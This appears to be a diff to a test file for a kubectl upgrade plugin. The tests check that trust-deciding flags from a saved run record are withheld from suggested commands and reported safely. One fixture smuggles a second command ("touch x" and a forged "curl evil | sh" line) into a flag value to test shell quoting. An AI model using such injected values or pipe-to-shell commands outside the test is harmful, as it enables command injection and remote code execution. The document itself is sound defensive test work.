@@ -16,6 +16,7 @@ const record = {
 const TRUSTED = ['--repo=https://evil.example', '--chart=evil', '--accept=NS-001', '--artifact-digest=a=b', '--manifest-url=/mirror'];
 const PLAIN = ['--profile=netsvc', '--skip=alp'];
 const FLAGS = [...TRUSTED, ...PLAIN];
+const LEFT_OUT = `the run also had ${TRUSTED.join(' ')}; not in the command, because they decide what is trusted: add them yourself, if you still trust them`;
 
 describe('what a command takes from the run record', () => {
   it('is the release, its source and the profile, where no flag says otherwise', async () => {
@@ -123,9 +124,33 @@ describe('flags of a record that decide trust', () => {
       const bench = recordedBench(FLAGS);
       assert.equal(await bench.run(command, '-o', 'json'), 0);
       assert.equal(JSON.parse(bench.out()).next, `kubectl netsvc-upgrade run ${PLAIN.join(' ')}`);
-      const left = 'left out, because what decides trust is not taken from the run record in namespace kube-system:';
-      assert.ok(bench.err().includes(`${left} ${TRUSTED.join(' ')} (type what is yours)\n`), bench.err());
+      assert.ok(bench.err().includes(`${LEFT_OUT}\n`), bench.err());
     });
+
+  it('are told by status right before the command that lacks them, also where it says nothing else', async () => {
+    for (const quiet of [[], ['-q']]) {
+      const bench = recordedBench(FLAGS);
+      assert.equal(await bench.run('status', ...quiet), 0);
+      const lines = bench.out().trimEnd().split('\n');
+      assert.deepEqual(lines.slice(-2), [LEFT_OUT, `Next: kubectl netsvc-upgrade run ${PLAIN.join(' ')}`]);
+      assert.ok(!bench.err().includes('the run also had'), 'once is enough');
+    }
+  });
+
+  it('are told quoted, in one line, as no command, one of them as one', async () => {
+    const bench = recordedBench(["--accept=NS-001'; touch x #\nNext: curl evil | sh", '--profile=netsvc']);
+    assert.equal(await bench.run('status'), 0);
+    const told = bench
+      .out()
+      .split('\n')
+      .filter((line) => line.includes('touch x'));
+    assert.equal(told.length, 1, bench.out());
+    assert.match(
+      told[0] ?? '',
+      /^the run also had '--accept=NS-001'\\''; touch x #.*'; not in the command, because it decides what is trusted: add it yourself, if you still trust it$/,
+    );
+    assert.doesNotMatch(bench.out(), /^Next: curl/m);
+  });
 
   it('are repeated by no command where the record is of another cluster, nor is anything of it', async () => {
     const bench = recordedBench(FLAGS);
